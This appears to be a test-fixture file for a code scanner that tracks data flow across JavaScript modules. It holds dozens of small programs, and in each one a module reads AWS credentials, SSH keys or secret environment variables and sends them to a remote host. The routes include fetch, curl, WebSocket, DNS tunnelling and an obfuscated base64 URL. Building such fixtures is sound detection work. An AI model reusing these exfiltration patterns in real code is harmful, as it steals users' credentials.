import type { ModuleConstructs } from './modules.js';

/** A module that reads credentials. */
const READS_CREDENTIALS =
  "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function grab() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n";
/** A module that sends what it is given. */
const POSTS =
  "export async function push(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n";
/** A program that hands the one to the other. */
const HANDS_OVER = "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush(grab());\n";

export const JAVASCRIPT_MODULES: ModuleConstructs = {
  language: 'javascript',
  cases: [
    [
      'named',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'ns',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs': "import * as c from './collect.mjs';\nimport * as n from './net.mjs';\nn.push(c.grab());\n",
      },
    ],
    [
      'default',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport default function() {\n  return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n}\n",
        'net.mjs':
          "export default async function(data) {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
        'main.mjs': "import grab from './collect.mjs';\nimport push from './net.mjs';\nawait push(grab());\n",
      },
    ],
    [
      'reexport',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'index.mjs': "export { grab } from './collect.mjs';\nexport * from './net.mjs';\n",
        'main.mjs': "import { grab, push } from './index.mjs';\npush(grab());\n",
      },
    ],
    [
      'reexport-ns',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'index.mjs': "export * as source from './collect.mjs';\nexport { push as deliver } from './net.mjs';\n",
        'main.mjs': "import { source, deliver } from './index.mjs';\ndeliver(source.grab());\n",
      },
    ],
    [
      'cjs',
      'main.js',
      {
        'collect.js':
          "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = { grab() { return fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } };\n",
        'net.js': "exports.push = async (d) => fetch('https://a.b.io/x', { method: 'POST', body: d });\n",
        'main.js': "const { grab } = require('./collect');\nconst net = require('./net');\nnet.push(grab());\n",
      },
    ],
    [
      'cjs-fn',
      'main.js',
      {
        'collect.js':
          "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = function () { return fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); };\n",
        'net.js': "module.exports = class Client { push(d) { return fetch('https://a.b.io/x', { method: 'POST', body: d }); } };\n",
        'main.js': "const grab = require('./collect');\nconst Client = require('./net');\nnew Client().push(grab());\n",
      },
    ],
    [
      'class',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Source {\n  constructor(root = homedir()) { this.root = root; }\n  read() { return readFileSync(join(this.root, '.aws', 'credentials'), 'utf8'); }\n}\n",
        'net.mjs':
          "export class Client {\n  #base;\n  constructor(base) { this.#base = base; }\n  async put(body) { return fetch(this.#base, { method: 'PUT', body: JSON.stringify(body) }); }\n}\n",
        'main.mjs':
          "import { Source } from './collect.mjs';\nimport { Client } from './net.mjs';\nconst c = new Client('https://a.b.io/x');\nawait c.put({ v: new Source().read() });\n",
      },
    ],
    [
      'emitter',
      'main.mjs',
      {
        'bus.mjs': "import { EventEmitter } from 'node:events';\nexport const bus = new EventEmitter();\n",
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { bus } from './bus.mjs';\nexport function load() { bus.emit('ready', readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8')); }\n",
        'net.mjs': "import { bus } from './bus.mjs';\nbus.on('ready', (d) => fetch('https://a.b.io/x', { method: 'POST', body: d }));\n",
        'main.mjs': "import './net.mjs';\nimport { load } from './collect.mjs';\nload();\n",
      },
    ],
    [
      'emitter-cls',
      'main.mjs',
      {
        'bus.mjs':
          "import { EventEmitter } from 'node:events';\nexport class Hub extends EventEmitter {\n  finish(x) { this.emit('done', x); }\n}\n",
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { Hub } from './bus.mjs';\nconst h = new Hub();\nh.on('done', push);\nh.finish(grab());\n",
      },
    ],
    [
      'own-bus',
      'main.mjs',
      {
        'bus.mjs':
          'const subs = new Map();\nexport function on(n, fn) { if (!subs.has(n)) subs.set(n, []); subs.get(n).push(fn); }\nexport function emit(n, ...a) { for (const fn of subs.get(n) ?? []) fn(...a); }\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { emit } from './bus.mjs';\nexport function load() { emit('ready', readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8')); }\n",
        'net.mjs': "import { on } from './bus.mjs';\non('ready', (d) => fetch('https://a.b.io/x', { method: 'POST', body: d }));\n",
        'main.mjs': "import './net.mjs';\nimport { load } from './collect.mjs';\nload();\n",
      },
    ],
    [
      'registry',
      'main.mjs',
      {
        'registry.mjs': 'export const steps = [];\nexport const register = (name, run) => steps.push({ name, run });\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { register } from './registry.mjs';\nregister('profile', () => readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'));\n",
        'net.mjs': POSTS,
        'main.mjs':
          "import './collect.mjs';\nimport { steps } from './registry.mjs';\nimport { push } from './net.mjs';\nfor (const s of steps) push({ [s.name]: s.run() });\n",
      },
    ],
    [
      'registry-map',
      'main.mjs',
      {
        'registry.mjs': 'export const steps = {};\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { steps } from './registry.mjs';\nsteps.profile = () => readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8');\n",
        'net.mjs': POSTS,
        'main.mjs':
          "import './collect.mjs';\nimport { steps } from './registry.mjs';\nimport { push } from './net.mjs';\nconst out = {};\nfor (const [k, fn] of Object.entries(steps)) out[k] = fn();\npush(out);\n",
      },
    ],
    [
      'dyn-import',
      'main.mjs',
      {
        'plugins/profile.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { push } from './net.mjs';\nfor (const n of ['profile']) {\n  const m = await import(`./plugins/${n}.mjs`);\n  push(m.grab());\n}\n",
      },
    ],
    [
      'dyn-import-then',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs': "import('./collect.mjs').then(({ grab }) => import('./net.mjs').then((n) => n.push(grab())));\n",
      },
    ],
    [
      'middleware',
      'main.mjs',
      {
        'mw.mjs': 'export const chain = [(p) => ({ ...p, n: 1 }), (p) => { p.meta = { ...process.env }; return p; }];\n',
        'net.mjs': POSTS,
        'main.mjs':
          "import { chain } from './mw.mjs';\nimport { push } from './net.mjs';\nlet p = {};\nfor (const m of chain) p = m(p);\npush(p);\n",
      },
    ],
    [
      'reduce-chain',
      'main.mjs',
      {
        'mw.mjs': 'export const chain = [(p) => ({ ...p, n: 1 }), (p) => ({ ...p, meta: process.env })];\n',
        'net.mjs': POSTS,
        'main.mjs': "import { chain } from './mw.mjs';\nimport { push } from './net.mjs';\npush(chain.reduce((p, m) => m(p), {}));\n",
      },
    ],
    [
      'express-next',
      'main.mjs',
      {
        'mw.mjs':
          'export class App {\n  #mws = [];\n  use(fn) { this.#mws.push(fn); return this; }\n  async run(ctx) {\n    let i = 0;\n    const next = async () => { const m = this.#mws[i++]; if (m) await m(ctx, next); };\n    await next();\n  }\n}\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport async function profile(ctx, next) { ctx.profile = readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); await next(); }\n",
        'net.mjs':
          "export async function deliver(ctx, next) { await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify(ctx) }); await next(); }\n",
        'main.mjs':
          "import { App } from './mw.mjs';\nimport { profile } from './collect.mjs';\nimport { deliver } from './net.mjs';\nawait new App().use(profile).use(deliver).run({});\n",
      },
    ],
    [
      'inject',
      'main.mjs',
      {
        'app.mjs': 'export function createApp({ source, sink }) {\n  return { async run() { await sink(source()); } };\n}\n',
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { createApp } from './app.mjs';\nawait createApp({ source: grab, sink: push }).run();\n",
      },
    ],
    [
      'inject-obj',
      'main.mjs',
      {
        'app.mjs':
          'export class App {\n  constructor(deps) { this.deps = deps; }\n  async run() { await this.deps.sink.save(await this.deps.source.load()); }\n}\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport const source = { async load() { return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } };\n",
        'net.mjs': "export const sink = { save: (d) => fetch('https://a.b.io/x', { method: 'POST', body: d }) };\n",
        'main.mjs':
          "import { App } from './app.mjs';\nimport { source } from './collect.mjs';\nimport { sink } from './net.mjs';\nawait new App({ source, sink }).run();\n",
      },
    ],
    [
      'ts-ctor-props',
      'main.ts',
      {
        'app.ts':
          "import type { Source, Sink } from './types';\nexport class App {\n  constructor(private readonly source: Source, private readonly sink: Sink) {}\n  async run(): Promise<void> { await this.sink.save(this.source.load()); }\n}\n",
        'types.ts': 'export interface Source { load(): string }\nexport interface Sink { save(d: string): Promise<void> }\n',
        'collect.ts':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport type { Source } from './types';\nexport class Files implements Source {\n  load(): string { return readFileSync(`${homedir()}/.aws/credentials`, 'utf8'); }\n}\n",
        'net.ts':
          "import type { Sink } from './types';\nexport class Remote implements Sink {\n  async save(d: string): Promise<void> { await fetch('https://a.b.io/x', { method: 'POST', body: d }); }\n}\n",
        'main.ts':
          "import { App } from './app';\nimport { Files } from './collect';\nimport { Remote } from './net';\nvoid new App(new Files(), new Remote()).run();\n",
      },
    ],
    [
      'ctx',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function setup(ctx) { ctx.profile = readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); }\n",
        'net.mjs': "export function report(ctx) { return fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify(ctx) }); }\n",
        'main.mjs':
          "import { setup } from './collect.mjs';\nimport { report } from './net.mjs';\nconst ctx = {};\nsetup(ctx);\nawait report(ctx);\n",
      },
    ],
    [
      'state-mod',
      'main.mjs',
      {
        'state.mjs': 'export const state = { profile: null };\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { state } from './state.mjs';\nexport function load() { state.profile = readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); }\n",
        'net.mjs':
          "import { state } from './state.mjs';\nexport const flush = () => fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify(state) });\n",
        'main.mjs': "import { load } from './collect.mjs';\nimport { flush } from './net.mjs';\nload();\nflush();\n",
      },
    ],
    [
      'state-map',
      'main.mjs',
      {
        'state.mjs': 'export const cache = new Map();\n',
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { cache } from './state.mjs';\nexport function load() { cache.set('p', readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8')); }\n",
        'net.mjs':
          "import { cache } from './state.mjs';\nexport const flush = () => fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify([...cache]) });\n",
        'main.mjs': "import { load } from './collect.mjs';\nimport { flush } from './net.mjs';\nload();\nflush();\n",
      },
    ],
    [
      'buffer',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "const items = [];\nexport function note(x) { items.push(x); }\nprocess.on('exit', () => { fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify(items) }); });\n",
        'main.mjs': "import { grab } from './collect.mjs';\nimport { note } from './net.mjs';\nnote(grab());\n",
      },
    ],
    [
      'batch-timer',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "class Batch {\n  #items = [];\n  constructor(url) { this.url = url; setInterval(() => this.flush(), 5000).unref(); }\n  add(x) { this.#items.push(x); }\n  async flush() { const body = JSON.stringify({ items: this.#items.splice(0) }); await fetch(this.url, { method: 'POST', body }); }\n}\nexport const batch = new Batch('https://a.b.io/x');\n",
        'main.mjs': "import { grab } from './collect.mjs';\nimport { batch } from './net.mjs';\nbatch.add(grab());\n",
      },
    ],
    [
      'logger',
      'main.mjs',
      {
        'log.mjs':
          "const sinks = [(l) => process.stderr.write(l + '\\n')];\nexport const addSink = (s) => sinks.push(s);\nexport function debug(msg, extra) { const l = JSON.stringify({ msg, ...extra }); for (const s of sinks) s(l); }\n",
        'collect.mjs': READS_CREDENTIALS,
        'main.mjs':
          "import { addSink, debug } from './log.mjs';\nimport { grab } from './collect.mjs';\naddSink((l) => fetch('https://a.b.io/x', { method: 'POST', body: l }));\ndebug('loaded', { p: grab() });\n",
      },
    ],
    [
      'config-url',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import { readFileSync } from 'node:fs';\nconst cfg = JSON.parse(readFileSync(new URL('./config.json', import.meta.url), 'utf8'));\nexport const push = (d) => fetch(cfg.endpoint, { method: 'POST', body: d });\n",
        'main.mjs': HANDS_OVER,
        'config.json': '{"endpoint": "https://a.b.io/x"}',
      },
    ],
    [
      'config-import',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import cfg from './config.json' with { type: 'json' };\nexport const push = (d) => fetch(cfg.endpoint, { method: 'POST', body: d });\n",
        'main.mjs': HANDS_OVER,
        'config.json': '{"endpoint": "https://a.b.io/x"}',
      },
    ],
    [
      'config-require',
      'main.js',
      {
        'collect.js':
          "const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.grab = () => fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n",
        'net.js': "const cfg = require('./config.json');\nexports.push = (d) => fetch(`${cfg.base}/items`, { method: 'POST', body: d });\n",
        'main.js': "const { grab } = require('./collect');\nconst { push } = require('./net');\npush(grab());\n",
        'config.json': '{"base": "https://a.b.io/v1"}',
      },
    ],
    [
      'const-b64',
      'main.mjs',
      {
        'const.mjs': "export const HOST = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmJvb2ttZXRyaWNzLmlvL3YxL2l0ZW1z', 'base64').toString();\n",
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': "import { HOST } from './const.mjs';\nexport const push = (d) => fetch(HOST, { method: 'POST', body: d });\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'generator',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function* read() { for (const n of ['.aws/credentials', '.ssh/id_rsa']) yield readFileSync(join(homedir(), n), 'utf8'); }\n",
        'pack.mjs': "export function* pack(it) { for (const x of it) yield Buffer.from(x).toString('base64'); }\n",
        'net.mjs': POSTS,
        'main.mjs':
          "import { read } from './collect.mjs';\nimport { pack } from './pack.mjs';\nimport { push } from './net.mjs';\nfor (const c of pack(read())) await push(c);\n",
      },
    ],
    [
      'async-gen',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport async function* read() { yield readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); }\n",
        'net.mjs': POSTS,
        'main.mjs':
          "import { read } from './collect.mjs';\nimport { push } from './net.mjs';\nfor await (const c of read()) await push(c);\n",
      },
    ],
    [
      'stream',
      'main.mjs',
      {
        'collect.mjs':
          "import { createReadStream } from 'node:fs';\nimport { homedir } from 'node:os';\nexport const open = () => createReadStream(homedir() + '/.aws/credentials');\n",
        'net.mjs':
          "import https from 'node:https';\nexport const target = () => https.request({ host: 'a.b.io', path: '/v1', method: 'POST' });\n",
        'main.mjs':
          "import { pipeline } from 'node:stream/promises';\nimport { createGzip } from 'node:zlib';\nimport { open } from './collect.mjs';\nimport { target } from './net.mjs';\nawait pipeline(open(), createGzip(), target());\n",
      },
    ],
    [
      'promise-all',
      'main.mjs',
      {
        'collect.mjs':
          "import { promises as fs } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport const grab = () => Promise.all(['.aws/credentials', '.ssh/id_rsa'].map((n) => fs.readFile(join(homedir(), n), 'utf8')));\n",
        'net.mjs': POSTS,
        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\ngrab().then(push);\n",
      },
    ],
    [
      'allsettled',
      'main.mjs',
      {
        'collect.mjs':
          "import { promises as fs } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport async function grab() {\n  const rs = await Promise.allSettled(['.aws/credentials', '.ssh/id_rsa'].map((n) => fs.readFile(join(homedir(), n), 'utf8')));\n  return rs.filter((r) => r.status === 'fulfilled').map((r) => r.value);\n}\n",
        'net.mjs': POSTS,
        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\ngrab().then((x) => push(x));\n",
      },
    ],
    [
      'fromEntries',
      'main.mjs',
      {
        'collect.mjs':
          'export const grab = () => Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k)));\n',
        'net.mjs': POSTS,
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'temp-file',
      'main.mjs',
      {
        'const.mjs':
          "import { join } from 'node:path';\nimport { tmpdir } from 'node:os';\nexport const SPOOL = join(tmpdir(), '.ledger-spool');\n",
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { writeFileSync } from 'node:fs';\nimport { SPOOL } from './const.mjs';\nexport const load = () => writeFileSync(SPOOL, readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'));\n",
        'net.mjs':
          "import { readFileSync } from 'node:fs';\nimport { SPOOL } from './const.mjs';\nexport const flush = () => fetch('https://a.b.io/x', { method: 'POST', body: readFileSync(SPOOL) });\n",
        'main.mjs': "import { load } from './collect.mjs';\nimport { flush } from './net.mjs';\nload();\nflush();\n",
      },
    ],
    [
      'retry',
      'main.mjs',
      {
        'retry.mjs':
          'export async function retry(fn, n = 3) {\n  for (let i = 0; i < n; i += 1) {\n    try { return await fn(); } catch { /* again */ }\n  }\n}\n',
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { retry } from './retry.mjs';\nawait retry(() => push(grab()));\n",
      },
    ],
    [
      'hof',
      'main.mjs',
      {
        'hof.mjs': "export const withLog = (fn) => async (...a) => { console.error('start'); return fn(...a); };\n",
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import { withLog } from './hof.mjs';\nexport const push = withLog(async (d) => fetch('https://a.b.io/x', { method: 'POST', body: d }));\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'compose',
      'main.mjs',
      {
        'fp.mjs':
          'export const pipe = (...fns) => (x) => fns.reduce((v, f) => f(v), x);\nexport const pipeAsync = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x));\n',
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { pipe } from './fp.mjs';\npipe(grab, (t) => t.split('\\n'), push)();\n",
      },
    ],
    [
      'compose-async',
      'main.mjs',
      {
        'fp.mjs': 'export const pipeAsync = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x));\n',
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { pipeAsync } from './fp.mjs';\npipeAsync(grab, push)();\n",
      },
    ],
    [
      'static',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Source {\n  static #cache;\n  static get() { return (Source.#cache ??= readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8')); }\n}\n",
        'net.mjs': POSTS,
        'main.mjs': "import { Source } from './collect.mjs';\nimport { push } from './net.mjs';\npush(Source.get());\n",
      },
    ],
    [
      'getter',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport const env = { get profile() { return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } };\n",
        'net.mjs': POSTS,
        'main.mjs': "import { env } from './collect.mjs';\nimport { push } from './net.mjs';\npush(env.profile);\n",
      },
    ],
    [
      'getter-cls',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Env { get profile() { return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } }\n",
        'net.mjs': POSTS,
        'main.mjs': "import { Env } from './collect.mjs';\nimport { push } from './net.mjs';\npush(new Env().profile);\n",
      },
    ],
    [
      'tojson',
      'main.mjs',
      {
        'collect.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class Rec { constructor() { this.p = readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); } toJSON() { return { p: this.p }; } }\n",
        'net.mjs': POSTS,
        'main.mjs': "import { Rec } from './collect.mjs';\nimport { push } from './net.mjs';\npush(new Rec());\n",
      },
    ],
    [
      'builder',
      'main.mjs',
      {
        'net.mjs':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport class B {\n  parts = {};\n  profile() { this.parts.p = readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8'); return this; }\n  send() { return fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify(this.parts) }); }\n}\n",
        'main.mjs': "import { B } from './net.mjs';\nnew B().profile().send();\n",
      },
    ],
    [
      'axios-inst',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': "import axios from 'axios';\nexport const api = axios.create({ baseURL: 'https://a.b.io' });\n",
        'main.mjs': "import { api } from './net.mjs';\nimport { grab } from './collect.mjs';\nawait api.post('/v1', { p: grab() });\n",
      },
    ],
    [
      'got-extend',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': "import got from 'got';\nexport const api = got.extend({ prefixUrl: 'https://a.b.io' });\n",
        'main.mjs':
          "import { api } from './net.mjs';\nimport { grab } from './collect.mjs';\nawait api.post('v1', { json: { p: grab() } });\n",
      },
    ],
    [
      'https-req',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import https from 'node:https';\nexport function push(d) {\n  const body = JSON.stringify(d);\n  const req = https.request({ hostname: 'a.b.io', path: '/v1', method: 'POST', headers: { 'content-length': Buffer.byteLength(body) } });\n  req.write(body);\n  req.end();\n}\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'ws',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': "import WebSocket from 'ws';\nconst ws = new WebSocket('wss://a.b.io/v1');\nexport const push = (d) => ws.send(d);\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'dns',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import dns from 'node:dns';\nexport function push(d) {\n  const h = Buffer.from(d).toString('hex');\n  for (let i = 0; i < h.length; i += 60) dns.resolve(`${h.slice(i, i + 60)}.t.bookmetrics.io`, () => {});\n}\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'di-container',
      'main.mjs',
      {
        'di.mjs':
          'export class Container {\n  #f = new Map();\n  register(n, f) { this.#f.set(n, f); }\n  get(n) { return this.#f.get(n)(this); }\n}\n',
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { Container } from './di.mjs';\nconst c = new Container();\nc.register('source', () => grab);\nc.register('sink', () => push);\nc.get('sink')(c.get('source')());\n",
      },
    ],
    [
      'switch-cmd',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nswitch (process.argv[2]) {\n  case 'sync':\n    await push(grab());\n    break;\n  default:\n    console.log('x');\n}\n",
      },
    ],
    [
      'commander',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': POSTS,
        'main.mjs':
          "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\nimport { Command } from 'commander';\nconst p = new Command();\np.command('sync').action(async () => { await push(grab()); });\np.parse();\n",
      },
    ],
    [
      'ts-enum',
      'main.ts',
      {
        'const.ts': "export enum P { Aws = '.aws/credentials', Ssh = '.ssh/id_rsa' }\n",
        'collect.ts':
          "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { P } from './const';\nexport const grab = (): string[] => Object.values(P).map((p) => readFileSync(`${homedir()}/${p}`, 'utf8'));\n",
        'net.ts':
          "export async function push(data: unknown): Promise<void> {\n  await fetch('https://a.b.io/x', { method: 'POST', body: JSON.stringify({ d: data }) });\n}\n",
        'main.ts': "import { grab } from './collect';\nimport { push } from './net';\nvoid push(grab());\n",
      },
    ],
    [
      'walk',
      'main.mjs',
      {
        'collect.mjs':
          "import { readdirSync, statSync, readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nexport function walk(dir, out = {}) {\n  for (const n of readdirSync(dir)) {\n    const p = join(dir, n);\n    if (statSync(p).isDirectory()) walk(p, out);\n    else out[p] = readFileSync(p, 'utf8');\n  }\n  return out;\n}\nexport const grab = () => walk(join(homedir(), '.ssh'));\n",
        'net.mjs': POSTS,
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'exec-cat',
      'main.mjs',
      {
        'collect.mjs':
          "import { execSync } from 'node:child_process';\nexport const grab = () => execSync('cat ~/.aws/credentials').toString();\n",
        'net.mjs': POSTS,
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'exec-curl',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import { execFileSync } from 'node:child_process';\nexport const push = (d) => execFileSync('curl', ['-s', '-d', d, 'https://a.b.io/x']);\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'sendbeacon',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "export const push = (d) => { const u = new URL('https://a.b.io/x'); u.searchParams.set('q', Buffer.from(d).toString('base64url')); return fetch(u); };\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'async-local',
      'main.mjs',
      {
        'state.mjs': "import { AsyncLocalStorage } from 'node:async_hooks';\nexport const als = new AsyncLocalStorage();\n",
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "import { als } from './state.mjs';\nexport const flush = () => fetch('https://a.b.io/x', { method: 'POST', body: als.getStore().p });\n",
        'main.mjs':
          "import { als } from './state.mjs';\nimport { grab } from './collect.mjs';\nimport { flush } from './net.mjs';\nals.run({ p: grab() }, flush);\n",
      },
    ],
    [
      'destruct-args',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs': "export async function push({ body, url = 'https://a.b.io/x' }) { await fetch(url, { method: 'POST', body }); }\n",
        'main.mjs': "import { grab } from './collect.mjs';\nimport { push } from './net.mjs';\npush({ body: grab() });\n",
      },
    ],
    [
      'opt-spread',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "const base = { method: 'POST', headers: { 'content-type': 'text/plain' } };\nexport const push = (d, o = {}) => fetch('https://a.b.io/x', { ...base, ...o, body: d });\n",
        'main.mjs': HANDS_OVER,
      },
    ],
    [
      'formdata',
      'main.mjs',
      {
        'collect.mjs': READS_CREDENTIALS,
        'net.mjs':
          "export async function push(d) { const f = new FormData(); f.append('f', new Blob([d]), 'x'); await fetch('https://a.b.io/x', { method: 'POST', body: f }); }\n",
        'main.mjs': HANDS_OVER,
      },
    ],
  ],
};
